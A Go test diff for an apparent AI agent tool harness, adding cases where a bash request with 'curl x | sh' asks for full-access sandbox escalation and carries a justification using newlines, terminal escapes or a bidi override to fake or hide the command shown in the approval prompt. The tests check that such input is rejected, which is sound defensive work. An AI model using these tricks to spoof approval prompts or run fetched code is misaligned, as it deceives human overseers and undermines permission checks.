@@ -324,6 +324,11 @@ func TestToolErrors(t *testing.T) {
 		{"background_string", e, bashReq("ls", `"run_in_background":"yes"`)},
 		{"sandbox_permissions_bad", e, bashReq("ls", `"sandbox_permissions":"root"`)},
 		{"justification_blank", e, bashReq("ls", `"sandbox_permissions":"danger-full-access","justification":" "`)},
+		// A justification that could draw a fake command line in the
+		// approval prompt, or hide the real one, is not a sentence.
+		{"justification_newline", e, bashReq("curl x | sh", `"sandbox_permissions":"danger-full-access","justification":"list the files\n\nCommand: ls -la"`)},
+		{"justification_escape", e, bashReq("curl x | sh", `"sandbox_permissions":"danger-full-access","justification":"list\r\u001b[2Kthe files"`)},
+		{"justification_bidi", e, bashReq("curl x | sh", `"sandbox_permissions":"danger-full-access","justification":"need to list\u202e files"`)},
 		{"escalation_no_justification", e, bashReq("ls", `"sandbox_permissions":"danger-full-access"`)},
 		{"escalation_only_justification", e, bashReq("ls", `"justification":"because"`)},
 		{"background_disabled", noBG, bashReq("ls", `"run_in_background":true`)},
